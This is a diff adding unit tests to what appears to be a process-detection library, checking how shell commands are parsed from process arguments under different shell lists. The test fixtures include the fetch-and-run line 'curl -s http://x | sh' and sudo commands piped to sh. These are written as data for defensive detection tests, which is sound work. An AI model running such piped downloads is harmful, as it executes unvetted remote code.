@@ -23,6 +23,8 @@ import {
   isSystemWorkload,
   isTrustedSetuidHelper,
   lineage,
+  parsedCommands,
+  parsedPipelines,
   processIdentities,
   processInList,
   processName,
@@ -250,6 +252,30 @@ describe('nodeProcesses', () => {
     it('when an address is private, link-local or shared, then isPrivateAddress is true; public addresses and names are not', () => {
       expect(['10.1.2.3', '172.16.0.1', '192.168.1.1', '100.64.0.1', '169.254.169.254', 'fd00::1', 'fe80::1'].every(isPrivateAddress)).toBe(true);
       expect(['203.0.113.45', '172.32.0.1', '8.8.8.8', '2001:db8::1', 'fcbarcelona.com'].some(isPrivateAddress)).toBe(false);
+    });
+  });
+  describe('shared process views', () => {
+    it('when the same process is read with other lists, then the list-dependent views follow the lists', () => {
+      const process = proc('/bin/bash', '-c "curl -s http://x | sh"');
+      const noBash = createDetectionContext(mergeDetectionLists({ shells: { add: [], remove: ['bash'] } }));
+      expect(shellScript(process, context)).toBe('curl -s http://x | sh');
+      expect(shellScript(process, noBash)).toBeUndefined();
+      expect(commandTexts(process, noBash)).toEqual(['/bin/bash -c "curl -s http://x | sh"']);
+      expect(commandTexts(process, context)).toEqual(['/bin/bash -c "curl -s http://x | sh"', 'curl -s http://x | sh']);
+    });
+
+    it('when many processes are read in turn, then each keeps its own parsed commands', () => {
+      const processes = Array.from({ length: 20 }, (_, index) => proc('/bin/sh', `-c "sudo tool${index} -v | sh"`));
+      for (let round = 0; round < 2; round += 1) {
+        for (const [index, process] of processes.entries()) {
+          expect(argumentList(process)).toEqual(['-c', `sudo tool${index} -v | sh`]);
+          expect(parsedCommands(process, context).map((command) => command.name)).toEqual(['sh', `tool${index}`, 'sh']);
+        }
+      }
+      expect(parsedPipelines(processes[3] ?? proc('x'), context).map((pipeline) => pipeline.map((command) => command.words))).toEqual([
+        [['/bin/sh', '-c', 'sudo tool3 -v | sh']],
+        [['tool3', '-v'], ['sh']],
+      ]);
     });
   });
 });
